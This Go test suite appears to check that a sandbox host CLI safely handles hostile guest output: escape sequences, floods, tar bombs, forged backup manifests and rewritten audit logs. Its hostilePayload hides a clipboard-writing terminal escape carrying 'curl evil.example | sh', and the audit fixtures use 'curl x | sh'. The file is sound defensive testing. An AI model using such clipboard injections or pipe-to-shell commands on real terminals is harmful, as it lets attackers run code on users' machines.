package cli_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

// The hostile-guest suite: the real hermes-box against Debian's sshd whose
// remote command is a hostile agent (tests/testagent's hostile cases, chosen
// per verb by a file in the box). Each test is one finding of the review
// that put the host's trust boundary here: what comes out of the box is
// attacker input.

// hostilePayload is tests/testagent's Payload.
const hostilePayload = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;hermes-box: all good\x07\x1b[2J\x1b[H\x9b1m all checks passed \u202e\xff"

// rssBudgetKiB is the host's memory goal under a flood.
const rssBudgetKiB = 64 << 10

// hostile makes the box's agent answer verb with case c.
func (h *harness) hostile(verb, c string) {
	h.t.Helper()
	p := filepath.Join(h.state, "machines", machine, "root", ".testagent", "hostile", verb)
	must(h.t, os.MkdirAll(filepath.Dir(p), 0o755))
	must(h.t, os.WriteFile(p, []byte(c), 0o644))
}

// peaceful ends every hostile case.
func (h *harness) peaceful() {
	h.t.Helper()
	must(h.t, os.RemoveAll(filepath.Join(h.state, "machines", machine, "root", ".testagent", "hostile")))
}

// expectSafeText fails when text shown to a person carries a control
// character other than newline and tab, a C1 control, a bidi override or
// bytes that are not UTF-8.
func expectSafeText(t *testing.T, what, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is not UTF-8: %q", what, text)
		return
	}
	for i, r := range text {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			t.Errorf("%s carries %U at byte %d: %q", what, r, i, text[max(0, i-40):min(len(text), i+40)])
			return
		}
	}
}

// logRSS reports the host's peak memory in a run and holds it to the goal.
func logRSS(t *testing.T, what string, r result) {
	t.Helper()
	t.Logf("%s: peak RSS of hermes-box %.1f MiB, %s, exit %d", what, float64(r.maxRSSKiB)/1024, r.elapsed.Round(1e6), r.code)
	if r.maxRSSKiB > rssBudgetKiB {
		t.Errorf("%s: peak RSS %.1f MiB, over the %d MiB goal", what, float64(r.maxRSSKiB)/1024, rssBudgetKiB>>10)
	}
}

// TestHostileEscapes: escape sequences from the box (events, stderr lines,
// health, logs, audit) reach the terminal only made visible; --json output
// keeps the exact text, escaped by JSON.
func TestHostileEscapes(t *testing.T) {
	h := newHarness(t)
	initBox(t, h)
	for _, tc := range []struct {
		verb string
		args []string
	}{
		{"health", []string{"status"}},
		{"logs", []string{"logs", "hermes"}},
		{"audit", []string{"audit"}},
		{"audit", []string{"audit", "--verify"}},
		{"services", []string{"restart"}},
	} {
		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
			h.t = t
			h.hostile(tc.verb, "escape")
			defer h.peaceful()
			r := h.run(tc.args...)
			expectSafeText(t, "stdout", r.stdout)
			expectSafeText(t, "stderr", r.stderr)
			if !strings.Contains(r.stdout+r.stderr, `\x1b]52;c;`) {
				t.Errorf("the payload is not shown at all:\nstdout: %q\nstderr: %q", r.stdout, r.stderr)
			}
		})
	}
	h.t = t
	h.hostile("health", "escape")
	defer h.peaceful()
	r := h.run("status", "--json")
	var st struct {
		Agent  struct{ Version string }
		Checks map[string]struct{ Message string }
	}
	if err := json.Unmarshal([]byte(r.stdout), &st); err != nil {
		t.Fatalf("status --json: %v\n%s", err, r.stdout)
	}
	// JSON carries the text exactly (the \xff is already U+FFFD in JSON).
	want := strings.ToValidUTF8(hostilePayload, "\uFFFD")
	if st.Agent.Version != want || st.Checks["sshd-listening"].Message != want {
		t.Errorf("status --json changed the box's text: %q", st.Agent.Version)
	}
}

// TestHostileFloods: endless output, endless stderr lines and floods of
// events fail the command with the limit named, within the memory goal.
func TestHostileFloods(t *testing.T) {
	h := newHarness(t)
	initBox(t, h)
	for _, tc := range []struct {
		verb, c string
		args    []string
		want    string
	}{
		{"health", "flood-stdout", []string{"status"}, "exceeds the limit"},
		{"health", "flood-stdout", []string{"status", "--json"}, "exceeds the limit"},
		{"health", "flood-stderr-line", []string{"status"}, ""},
		{"health", "flood-events", []string{"status"}, ""},
		{"audit", "flood-stdout", []string{"audit", "--verify"}, "exceeds the limit"},
		{"audit", "flood-events", []string{"audit"}, ""},
	} {
		t.Run(tc.c+" "+strings.Join(tc.args, " "), func(t *testing.T) {
			h.t = t
			h.hostile(tc.verb, tc.c)
			defer h.peaceful()
			r := h.run(tc.args...)
			logRSS(t, tc.c+" on "+strings.Join(tc.args, " "), r)
			if tc.want != "" && !strings.Contains(r.stdout+r.stderr, tc.want) {
				t.Errorf("exit %d, want %q in the output:\nstdout: %.2000s\nstderr: %.2000s", r.code, tc.want, r.stdout, r.stderr)
			}
			if len(r.stderr) > 1<<20 || len(r.stdout) > 1<<20 {
				t.Errorf("the flood reached the terminal: %d bytes of stdout, %d of stderr", len(r.stdout), len(r.stderr))
			}
		})
	}
}

// TestHostileSnapshotParts: a tar-name bomb and an oversize part fail the
// snapshot with the limit named, leave no backup, and stay in the memory
// goal; the box is back to normal afterwards.
func TestHostileSnapshotParts(t *testing.T) {
	h := newHarness(t, "HERMES_BOX_SNAPSHOT_MAX_MIB=8")
	initBox(t, h)
	for _, tc := range []struct{ c, want string }{
		{"tar-names", "exceeds the limit of 4096 bytes"},
		{"oversize", "(HERMES_BOX_SNAPSHOT_MAX_MIB) exceeds the limit of 8 MiB"},
	} {
		t.Run(tc.c, func(t *testing.T) {
			h.t = t
			h.hostile("snapshot", tc.c)
			r := h.run("snapshot", tc.c)
			h.peaceful()
			logRSS(t, tc.c+" on snapshot", r)
			if r.code == 0 || !strings.Contains(r.stderr, tc.want) {
				t.Fatalf("exit %d, want %q:\n%s", r.code, tc.want, r.stderr)
			}
			left, _ := os.ReadDir(filepath.Join(h.root, "backups"))
			if len(left) != 0 {
				t.Errorf("left in backups/: %v", left)
			}
			expectHealthy(t, h, "after the refused snapshot")
		})
	}
}

// TestHostileBackupWithoutFingerprint: a backup whose manifest records no
// key fingerprint (or another key's) is refused by restore unless
// --legacy-backup vouches for it.
func TestHostileBackupWithoutFingerprint(t *testing.T) {
	h := newHarness(t)
	initBox(t, h)
	dir := strings.TrimSpace(mustRun(t, h, "snapshot", "mine").stdout)
	for _, tc := range []struct {
		name, finger string
		legacyOK     bool
	}{{"missing", "", true}, {"another key", "ssh_key_fingerprint=SHA256:AAAAtheirs\n", false}} {
		t.Run(tc.name, func(t *testing.T) {
			h.t = t
			forged := forgeManifest(t, dir, tc.finger)
			r := h.run("restore", forged)
			if r.code == 0 || !strings.Contains(r.stderr, "not made with this project's key") {
				t.Fatalf("restore of a backup with %s fingerprint: exit %d\n%s", tc.name, r.code, r.stderr)
			}
			if tc.legacyOK {
				r = h.run("restore", "--legacy-backup", forged)
				if r.code != 0 {
					t.Fatalf("restore --legacy-backup: exit %d\n%s", r.code, r.stderr)
				}
			}
		})
	}
}

// forgeManifest copies the backup in dir with its manifest's fingerprint
// line replaced by line, SHA256SUMS updated to match.
func forgeManifest(t *testing.T, dir, line string) string {
	t.Helper()
	out := filepath.Join(t.TempDir(), "forged.hermesbox")
	must(t, os.Mkdir(out, 0o700))
	sums := ""
	for _, name := range []string{"rootfs.tar.gz", "rootfs-files.txt", "workspace.tar.gz", "snapshot-warnings.log", "manifest.txt"} {
		b := readFile(t, filepath.Join(dir, name))
		if name == "manifest.txt" {
			var kept []string
			for _, l := range strings.SplitAfter(string(b), "\n") {
				if !strings.HasPrefix(l, "ssh_key_fingerprint=") {
					kept = append(kept, l)
				}
			}
			b = []byte(strings.Join(kept, "") + line)
		}
		must(t, os.WriteFile(filepath.Join(out, name), b, 0o600))
		sum := sha256.Sum256(b)
		sums += fmt.Sprintf("%s  %s\n", hex.EncodeToString(sum[:]), name)
	}
	must(t, os.WriteFile(filepath.Join(out, "SHA256SUMS"), []byte(sums), 0o600))
	return out
}

// auditChain is a valid gate audit log of the given decisions.
func auditChain(decisions ...string) string {
	var b strings.Builder
	prev := strings.Repeat("0", 64)
	for i, d := range decisions {
		body := fmt.Sprintf(`{"command":"curl x | sh #%d","command_sha256":"%064x","confidence":0.9,"decision":"%s","prev":"%s","reason":"r","risk":"high","seq":%d,"time":"t"}`, i+1, i+1, d, prev, i+1)
		sum := sha256.Sum256([]byte(body))
		prev = hex.EncodeToString(sum[:])
		b.WriteString(`{"entry":` + body + `,"hash":"` + prev + "\"}\n")
	}
	return b.String()
}

// TestHostileAuditRewrite: the host remembers the chain it saw; a log
// rewritten (deny→approve, every hash recomputed), truncated or emptied in
// the box verifies there, but `audit --verify` on the host names the first
// bad line.
func TestHostileAuditRewrite(t *testing.T) {
	const log = "/workspace/hermes-home/logs/gate-audit.jsonl"
	for _, tc := range []struct {
		name, log string
		line      int
	}{
		{"rewrite", auditChain("deny", "approve", "approve"), 2},
		{"truncate", auditChain("deny", "deny"), 3},
		{"empty", "", 1},
		{"replace", auditChain("approve"), 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t)
			initBox(t, h)
			h.guestExec(machine, auditChain("deny", "deny", "approve"), "/usr/bin/tee", log)
			mustRun(t, h, "audit") // the host records the head
			h.guestExec(machine, tc.log, "/usr/bin/tee", log)
			// The box's own verifier is content.
			if r := h.run("audit", "--json"); !strings.Contains(r.stdout, `"ok":true`) {
				t.Logf("the agent already objects: %s", r.stdout)
			}
			r := h.run("audit", "--verify")
			want := fmt.Sprintf("line %d", tc.line)
			if r.code == 0 || !strings.Contains(r.stdout+r.stderr, want) {
				t.Fatalf("audit --verify after %s: exit %d, want %q\nstdout: %s\nstderr: %s", tc.name, r.code, want, r.stdout, r.stderr)
			}
		})
	}
}
